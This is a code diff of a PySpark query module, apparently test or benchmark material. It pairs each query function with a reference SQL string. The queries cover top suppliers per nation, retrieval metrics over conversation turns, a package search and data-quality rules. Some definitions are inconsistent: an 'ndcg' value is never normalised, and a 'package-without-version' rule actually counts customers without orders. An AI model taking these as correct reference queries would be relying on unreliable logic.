+    return trees.round_robin(rows, 3).select("repo", "detector", F.col("position").alias("l_linenumber"), "place")
+
+
+@query("select s_nationkey, s_suppkey, s_acctbal from (select *, row_number() over (partition by s_nationkey order by s_acctbal desc, s_suppkey) n from supplier) where n <= 2")
+def first_of_each(spark, sf_dir):
+    return listing.in_each(table(spark, sf_dir, "supplier"), "s_nationkey", [F.desc("s_acctbal"), F.col("s_suppkey")], 2).select("s_nationkey", "s_suppkey", "s_acctbal")
+
+
+@query("""with h as (select conv_id as query, turn + 1 as rank, role as doc from conversations), r as (select distinct conv_id as query, role as doc from conversations where role = 'user'),
+j as (select h.query, h.rank, case when r.doc is null then 0 else 1 end as rel from h left join r on h.query = r.query and h.doc = r.doc where h.rank <= 10),
+g as (select query, sum(rel) as found, max(case when rel = 1 then 1.0 / rank end) as rr, sum(rel / log2(rank + 1)) as dcg from j group by 1), t as (select query, count(distinct doc) as n from r group by 1)
+select t.query, round(coalesce(found, 0) / 10.0, 6)::double as precision_at_k, round(coalesce(found, 0) / n, 6)::double as recall_at_k, round(coalesce(rr, 0), 6)::double as reciprocal_rank, round(coalesce(dcg, 0) / 1.0, 6)::double as ndcg_at_k from t left join g on t.query = g.query""")
+def retrieval_figures(spark, sf_dir):
+    turns = table(spark, sf_dir, "conversations")
+    hits = turns.select(F.col("conv_id").alias("query"), (F.col("turn") + 1).alias("rank"), F.col("role").alias("doc"))
+    return search.retrieval_figures(hits, turns.where("role = 'user'").select(F.col("conv_id").alias("query"), F.col("role").alias("doc")).distinct())
+
+
+@query()
+def ranked_search(spark, sf_dir):
+    rows = packages(spark, sf_dir).select("id", "repository", "type", "name", "summary", F.col("source_path").alias("path"))
+    return search.search(rows, "the and")
 
-def queries() -> dict:
-    return {}
 
+@query("""select case when parse = 'failed' then 'latest-parse-status: failed' else 'latest-parse-status: ok' end as label, count(*) as n from (select case when n_chars < 100 then 'failed' else 'ok' end as parse from documents) group by 1
+union all select 'blank-name', count(*) from documents where trim(substr(text, 1, 2)) = '' union all select 'package-without-version', count(*) from customer where c_custkey not in (select o_custkey from orders)
+union all select 'source-path-shape', count(*) from pages where not starts_with(url, 'https://')""")
+def quality_rules(spark, sf_dir):
+    from tallyforge.plans import rules
 
-def oracle_sql() -> dict:
-    return {}
+    return rules.run(spark, sf_dir)
